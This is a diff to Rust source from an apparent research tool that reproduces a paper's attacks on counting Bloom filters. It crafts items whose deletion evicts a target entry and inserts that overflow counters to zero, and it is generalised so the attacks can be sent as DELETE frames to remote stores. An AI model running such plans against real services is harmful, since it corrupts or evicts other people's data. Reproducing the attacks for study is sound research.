@@ -17,6 +17,7 @@ use evilbloom_filters::CountingBloomFilter;
 use evilbloom_urlgen::UrlGenerator;
 
 use crate::search::{search, SearchStats};
+use crate::target::TargetFilter;
 
 /// Result of planning a targeted deletion.
 #[derive(Debug, Clone, PartialEq)]
@@ -30,22 +31,26 @@ pub struct DeletionPlan {
     pub stats: SearchStats,
 }
 
-/// Crafts a set of items whose deletion evicts `victim` from the counting
-/// filter: together, the crafted items cover every cell of the victim.
+/// Crafts a set of items whose deletion evicts `victim` from a deletable
+/// (counting) filter: together, the crafted items cover every cell of the
+/// victim. Generic over [`TargetFilter`], so the same offline search runs
+/// against a local [`CountingBloomFilter`] or an unhardened store's
+/// flattened adversarial view — and the planned items can then be executed
+/// locally or shipped as `DELETE` frames over the wire.
 ///
 /// The plan assumes each victim cell holds a single count (the victim was
 /// inserted once and no other member shares the cell); deleting the plan's
 /// items then drives each covered cell to zero. When cells are shared the
 /// eviction may require repeating the plan — exactly the "deletion of an item
 /// may require other deletions" caveat of the paper.
-pub fn plan_targeted_deletion(
-    filter: &CountingBloomFilter,
+pub fn plan_targeted_deletion<F: TargetFilter>(
+    filter: &F,
     victim: &[u8],
     generator: &UrlGenerator,
     max_attempts: u64,
 ) -> DeletionPlan {
     let start = std::time::Instant::now();
-    let victim_cells: Vec<u64> = filter.indexes(victim);
+    let victim_cells: Vec<u64> = filter.indexes_of(victim);
     let mut uncovered: HashSet<u64> = victim_cells.iter().copied().collect();
     let mut covered: Vec<u64> = Vec::new();
     let mut items = Vec::new();
@@ -54,7 +59,7 @@ pub fn plan_targeted_deletion(
     while !uncovered.is_empty() && attempts < max_attempts {
         let candidate = generator.url(attempts);
         attempts += 1;
-        let cells = filter.indexes(candidate.as_bytes());
+        let cells = filter.indexes_of(candidate.as_bytes());
         let hits: Vec<u64> = cells.iter().copied().filter(|c| uncovered.contains(c)).collect();
         if hits.is_empty() {
             continue;
@@ -89,8 +94,8 @@ pub struct OverflowPlan {
 /// chosen as a multiple of `2^bits * cell_budget`, inserting the plan leaves
 /// every counter at zero while the slice's insertion counter advances by
 /// `count` — the paper's "complete waste of memory".
-pub fn plan_counter_overflow(
-    filter: &CountingBloomFilter,
+pub fn plan_counter_overflow<F: TargetFilter>(
+    filter: &F,
     cell_budget: usize,
     count: usize,
     generator: &UrlGenerator,
@@ -104,7 +109,7 @@ pub fn plan_counter_overflow(
         max_attempts,
         |i| generator.url(i),
         |candidate| {
-            let cells = filter.indexes(candidate.as_bytes());
+            let cells = filter.indexes_of(candidate.as_bytes());
             let distinct: HashSet<u64> = cells.iter().copied().collect();
             // Accept the candidate if its cells fit inside the (possibly
             // still growing) target set.
